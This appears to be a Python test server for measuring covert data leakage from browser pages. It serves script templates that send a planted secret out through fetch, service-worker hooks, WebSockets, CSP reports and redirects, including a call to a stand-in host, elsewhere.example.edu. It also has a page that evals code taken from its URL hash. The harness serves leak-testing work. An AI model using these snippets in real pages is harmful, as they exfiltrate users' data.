"""What the places of `listener.py` answer, so that each way can go on to its end."""

from __future__ import annotations

import base64
import hashlib
import struct
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from typing import Any, Protocol
from urllib.parse import parse_qs, urlsplit

HTML = "text/html; charset=utf-8"
SCRIPT = "text/javascript"
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
SUBMIT_S = 60.0  # the form is answered when the measure says so
SOCKET_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
SHOWS: Mapping[str, tuple[str, bytes]] = {  # by Sec-Fetch-Dest
    "image": ("image/gif", GIF),
    "style": ("text/css", b"x {}"),
    "xslt": ("text/xml", b"<x/>"),
    "json": ("application/json", b"{}"),
    "manifest": ("application/manifest+json", b"{}"),
    "track": ("text/vtt", b"WEBVTT\n\n"),
    **dict.fromkeys(
        ("script", "worker", "sharedworker", "serviceworker", "audioworklet", "paintworklet"),
        (SCRIPT, b";"),
    ),
}
_FETCH = 'fetch("{url}", {{ method: "POST", body: "{told}", mode: "no-cors" }})'
SCRIPTS = {  # {url}: the address to ask; {socket}: the same for a socket; {told}: what to tell
    "run": _FETCH,
    "install": f"self.oninstall = () => {_FETCH}",
    "sync": f"self.onsync = (e) => e.waitUntil({_FETCH})",
    "preloading": "self.oninstall = () => self.skipWaiting();"
    " self.onactivate = (e) => e.waitUntil(clients.claim());"
    " self.onfetch = (e) => e.respondWith(e.preloadResponse.then((r) => r ?? fetch(e.request)))",
    "socket": 'new WebSocket("{socket}")',
    "reporting": 'fetch("https://elsewhere.example.edu/{told}").catch(() => {{}})',
    "heeding": "const heed = (e) => fetch(e.data.url, e.data.given); self.onmessage = heed;"
    " self.onconnect = (e) => {{ e.ports[0].onmessage = heed; }};"
    " self.oninstall = () => self.skipWaiting()",
    "plain": ";",
}
LISTENS = """<!doctype html><title>listens</title><script>
const say = (text) => fetch("/seen?" + encodeURIComponent(text), { mode: "no-cors" });
const told = () => decodeURIComponent(location.hash.slice(1));
const heed = (e) => { for (const port of e.ports) port.onmessage = heed; say(e.data); };
onmessage = heed;
onhashchange = () => say(told());
onresize = () => name.startsWith("hit-") && say(name + "-" + innerWidth);
if (told().startsWith("run:")) (0, eval)(told().slice(4));
else if (told() === "name") say(name);
else if (told().startsWith("hit-")) say(told());
</script>listens"""
FORM = """<!doctype html><title>Apply</title><h1>Apply</h1>
<form method=post action=/apply><label>Full name <input name=name></label>
<label>Mail <input name=mail type=email></label><button>Send application</button></form>"""


@dataclass(frozen=True, slots=True)
class Answer:
    """What a page of the job's own site has it serve."""

    body: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)


class Listens(Protocol):
    """The `Listener`, as far as an answer needs it."""

    secrets: Mapping[Any, str]
    answers: list[Answer]
    release: Any

    def add(self, kind: Any, place: Any, text: str) -> None: ...
    def origin(self, place: Any, door: int = 0) -> str: ...
    def hear_name(self, host: str) -> bool: ...


class Conversation(BaseHTTPRequestHandler):
    """Answers the requests of one connection."""

    protocol_version = "HTTP/1.1"
    server: Any  # with `place` and `listener`

    def log_message(self, format: str, *args: object) -> None:
        """The listener is told enough."""

    def __getattr__(self, name: str) -> Any:
        """Answer whatever method a request has."""
        if name.startswith("do_"):
            return self._attend
        raise AttributeError(name)

    def _attend(self) -> None:
        size = self.headers.get("Content-Length", "")
        body = self.rfile.read(int(size)) if size.isdigit() else self._chunks()
        if self.path.startswith("/dns?"):
            self._say("application/dns-message", self._resolution())
            return
        head = f"{self.command} {self.path}\n{self.headers}"
        self._listener.add("request", self.server.place, f"{head}\n{body.decode('latin-1')}")
        if "websocket" in self.headers.get("Upgrade", "").lower():
            self._converse()
        elif self.command == "OPTIONS":
            self._say("", b"")
        else:
            first = urlsplit(self.path).path.strip("/").split("/")[0]
            getattr(self, f"_at_{first}", self._at_anything)()

    @property
    def _listener(self) -> Listens:
        listener: Listens = self.server.listener
        return listener

    def _chunks(self) -> bytes:
        if "chunked" not in self.headers.get("Transfer-Encoding", ""):
            return b""
        told = b""
        while size := int(self.rfile.readline().split(b";")[0] or b"0", 16):
            told += self.rfile.read(size)
            self.rfile.readline()
        self.rfile.readline()
        return told

    def _say(
        self,
        kind: str,
        payload: bytes,
        *,
        status: int = 200,
        headers: Mapping[str, str] | None = None,
    ) -> None:
        asked = self.headers.get
        given = {
            "Content-Type": kind or "text/plain",
            "Content-Length": str(len(payload)),
            "Access-Control-Allow-Origin": asked("Origin", "*"),
            "Access-Control-Allow-Credentials": "true",
            "Access-Control-Allow-Headers": asked("Access-Control-Request-Headers", "*"),
            "Access-Control-Allow-Methods": asked("Access-Control-Request-Method", "*"),
            "Access-Control-Max-Age": "600" if self.path == "/preflight" else "0",
            "Cache-Control": "no-store",
            "Service-Worker-Allowed": "/",
            "Supports-Loading-Mode": "credentialed-prerender",
            **(headers or {}),
        }
        self.send_response(status)
        for name, value in given.items():
            self.send_header(name, value.encode("utf-8").decode("latin-1"))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(payload)

    def _at_anything(self) -> None:
        kind, payload = SHOWS.get(self.headers.get("Sec-Fetch-Dest", ""), (HTML, b"ok"))
        if self.headers.get("Accept", "") == "text/event-stream":
            kind, payload = "text/event-stream", b"retry: 600000\ndata: x\n\n"
        self._say(kind, payload)

    def _at_redirect(self) -> None:
        """/redirect/CODE/hit/WAY/PHASE/PLACE leads there, with what is told."""
        url, _ = self._target()
        self._say(HTML, b"", status=int(self.path.split("/")[2]), headers={"Location": url})

    def _at_static(self) -> None:
        """/static/KIND/hit/WAY/PHASE/PLACE is a script that tells that place."""
        if self.headers.get("Sec-Fetch-Dest") == "iframe":
            self._say(HTML, b"ok")  # a page that a service worker answers for
            return
        url, told = self._target()
        kind = urlsplit(self.path).path.split("/")[2]
        text = SCRIPTS[kind].format(url=url, told=told, socket=url.replace("http", "ws", 1))
        more = {}
        if kind == "reporting":
            more = {"Content-Security-Policy": f"connect-src 'none'; report-uri {url}"}
        self._say(SCRIPT, text.encode(), headers=more)

    def _at_report(self) -> None:
        """/report/hit/WAY/PHASE/PLACE is told to report there what it may not load."""
        url, _ = self._target()
        policy = f"img-src 'none'; report-uri {url}"
        self._say(HTML, b"<!doctype html><img src=/x>", headers={"Content-Security-Policy": policy})

    def _at_answer(self) -> None:
        given = self._listener.answers[int(urlsplit(self.path).path.split("/")[2])]
        self._say(HTML, given.body.encode(), headers=given.headers)

    def _at_listen(self) -> None:
        self._say(HTML, LISTENS.encode())

    def _at_form(self) -> None:
        """The job's form; before anything is typed it asks the site of /form?ORIGIN."""
        met = urlsplit(self.path).query
        asks = f'<img src="{met}/logo.gif"><script src="{met}/metjs"></script>'
        known = "".join(
            f'<img src="{origin}/known/bit_by_path/{bit}">' for origin in ("", met) for bit in "01"
        )
        self._say(HTML, (FORM + asks + known).encode())

    def _at_metjs(self) -> None:
        """The script of a site that a page has of it."""
        told = 'fetch(new URL("/met", document.currentScript.src), { method: "POST", body: "met" })'
        self._say(SCRIPT, told.encode())

    def _at_apply(self) -> None:
        """A form that was sent is answered when the measure says so."""
        self._listener.release.wait(SUBMIT_S)
        self._say(HTML, b"<!doctype html><title>Thank you</title><h1>Application received</h1>")

    def _resolution(self) -> bytes:
        """Answer a question of DNS over HTTPS (RFC 8484): our names are here, others nowhere."""
        (told,) = parse_qs(urlsplit(self.path).query)["dns"]
        question = base64.urlsafe_b64decode(told + "==")
        labels, at = [], 12
        while size := question[at]:
            labels.append(question[at + 1 : at + 1 + size].decode())
            at += 1 + size
        known = self._listener.hear_name(".".join(labels).lower())
        asked = question[12 : at + 5]
        here = known and asked[-4:-2] == b"\0\x01"
        record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes((127, 0, 0, 1))
        flags = 0x8180 if known else 0x8183
        head = question[:2] + struct.pack("!HHHHH", flags, 1, int(here), 0, 0)
        return head + asked + (record if here else b"")

    def _target(self) -> tuple[str, str]:
        """Return the address that the way in the path is to ask, and what it tells."""
        parts = urlsplit(self.path).path.split("/hit/")
        if len(parts) < 2:
            return "", ""
        way, phase, place = parts[1].split("/")[:3]
        told = self._listener.secrets[place]
        return f"{self._listener.origin(place)}/hit/{way}/{phase}/{place}?e={told}", told

    def _converse(self) -> None:
        """Open the socket, and hear what it says until it ends."""
        key = self.headers.get("Sec-WebSocket-Key", "") + SOCKET_GUID
        accepts = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
        self.send_response(101)
        for name, value in (("Upgrade", "websocket"), ("Connection", "Upgrade")):
            self.send_header(name, value)
        self.send_header("Sec-WebSocket-Accept", accepts)
        if protocol := self.headers.get("Sec-WebSocket-Protocol"):
            self.send_header("Sec-WebSocket-Protocol", protocol.split(",")[0])
        self.end_headers()
        self.close_connection = True
        with suppress(struct.error):
            while text := self._message():
                self._listener.add("message", self.server.place, text)

    def _message(self) -> str:
        """One short message of a page; '' at the end."""
        _, size = struct.unpack("!BB", self.rfile.read(2))
        size &= 0x7F
        if size == 126:
            (size,) = struct.unpack("!H", self.rfile.read(2))
        key, told = self.rfile.read(4), self.rfile.read(size)
        return bytes(b ^ key[i % 4] for i, b in enumerate(told)).decode("utf-8", "replace")
